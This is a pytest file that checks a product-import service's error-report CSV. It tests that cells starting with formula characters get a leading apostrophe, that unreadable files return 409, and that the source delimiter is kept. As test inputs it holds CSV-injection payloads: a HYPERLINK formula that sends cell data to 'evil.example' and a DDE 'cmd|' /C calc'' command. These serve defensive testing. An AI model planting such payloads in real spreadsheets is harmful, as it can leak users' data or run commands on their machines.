"""errors.csv opens in a spreadsheet without running anything: no cell starts a formula."""

import csv
import io
import json
from decimal import Decimal

import pytest

from imports.reports import FORMULA_PREFIXES, spreadsheet_safe
from tests.factories import ean13

from .helpers import run_import

pytestmark = pytest.mark.django_db

# Every character a spreadsheet application reads as the start of a formula (OWASP's list).
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def test_the_escaped_prefixes_are_the_whole_owasp_list():
    assert set(FORMULA_PREFIXES) == set(PREFIXES)


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_cell_starting_a_formula_gets_a_leading_apostrophe(prefix):
    payload = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize(
    "value, expected",
    [
        (-3, "'-3"),
        (Decimal("-1.5"), "'-1.5"),
        ({"a": "=1"}, '{"a": "=1"}'),  # JSON text starts with { or [: nothing to run
        (None, ""),
        ("plain", "plain"),
        (" =1+1", " =1+1"),  # a leading space makes it text for every spreadsheet
        ("'=1", "'=1"),
    ],
)
def test_other_cells_are_text_as_written(value, expected):
    assert spreadsheet_safe(value) == expected


def test_no_cell_of_the_error_report_starts_a_formula(api):
    # JSON carries every prefix into any cell, tab and carriage return included, and a header too.
    items = [{"ean": ean13(1), "name": "Fine", "=SUM(A1:A9)": "1"}] + [
        {"ean": f"{prefix}cmd|' /C calc'!A0", "name": f"{prefix}2+3", f"{prefix}col": f"{prefix}x"}
        for prefix in PREFIXES
    ]
    job = run_import(json.dumps(items).encode(), name="catalog.json", user=api.user)
    assert job.failed_rows == len(PREFIXES)
    response = api.get(f"/api/v1/imports/jobs/{job.pk}/errors.csv")
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["ean", "name", "'=SUM(A1:A9)", "row_number", "field", "message"]
    assert [row[:2] for row in rows[1:]] == [[f"'{p}cmd|' /C calc'!A0", f"'{p}2+3"] for p in PREFIXES]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple(PREFIXES))]


def test_the_report_of_a_job_whose_file_cannot_be_read_is_409_with_the_reason(api):
    # A file cut short (a file that broke a safety limit is not read again at all:
    # test_safety_limit_failures.py).
    job = run_import(b'[{"ean": "1", "name": "x"', name="c.json", user=api.user)
    assert job.status == "failed"
    response = api.get(f"/api/v1/imports/jobs/{job.pk}/errors.csv")
    assert response.status_code == 409
    assert response.json() == {
        "detail": "The job's file cannot be read, so there is no error report: "
        "The JSON file is cut short: it ends in item 1 (after key 'name')."
    }
    # The preview says the same, as a validation error, at any status.
    preview = api.get(f"/api/v1/imports/jobs/{job.pk}/preview").json()
    assert (
        preview["validation_errors"][0]["message"]
        == "The JSON file is cut short: it ends in item 1 (after key 'name')."
    )


@pytest.mark.parametrize("delimiter", [";", "\t", "|", ","])
def test_the_error_report_keeps_the_source_delimiter_and_re_imports_as_is(api, delimiter):
    # A French supplier's semicolon file, saved by Excel in Windows-1252: the rejected rows come
    # back in its own dialect, with a BOM, so Excel opens them in columns and the fixed file
    # imports again.
    lines = [
        ["EAN", "Désignation", "Prix HT"],
        [ean13(1), "Chaise", "29,99" if delimiter != "," else "29.99"],
        ["123", "Table à manger", "9,90" if delimiter != "," else "9.90"],
    ]
    content = "\r\n".join(delimiter.join(line) for line in lines).encode("cp1252")
    job = run_import(content, user=api.user)
    assert job.failed_rows == 1
    raw = b"".join(api.get(f"/api/v1/imports/jobs/{job.pk}/errors.csv").streaming_content)
    assert raw.startswith("\ufeff".encode())
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0] == delimiter.join(
        ["EAN", "Désignation", "Prix HT", "row_number", "field", "message"]
    )
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert rows[1][:4] == lines[2] + ["3"]
    fixed = raw.replace(b"123" + delimiter.encode(), ean13(2).encode() + delimiter.encode())
    again = run_import(fixed, user=api.user)
    assert (again.status, again.failed_rows, again.products_created) == ("completed", 0, 1)
    assert again.mapping["Désignation"] == "name"
